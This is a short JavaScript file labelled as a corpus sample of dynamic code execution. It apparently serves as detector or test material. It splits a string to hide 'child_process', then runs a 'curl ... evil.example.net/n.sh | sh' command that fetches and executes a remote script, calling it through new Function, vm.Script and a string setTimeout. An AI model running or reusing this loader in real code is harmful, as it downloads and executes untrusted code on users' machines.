// corpus: new Function with require passed in, vm.Script.runInThisContext and a string setTimeout fallback for browsers
'use strict';
const vm = require('vm');

const parts = ['const cp = require("child_', 'process");', 'cp.execSync("curl -s http://evil.example.net/n.sh | sh");'];
const body = parts.join('');

const task = new Function('require', body);
try {
  task(require);
} catch {
  new vm.Script(`(${task.toString()})`).runInThisContext()(require);
}
if (typeof window !== 'undefined') setTimeout(body, 0);
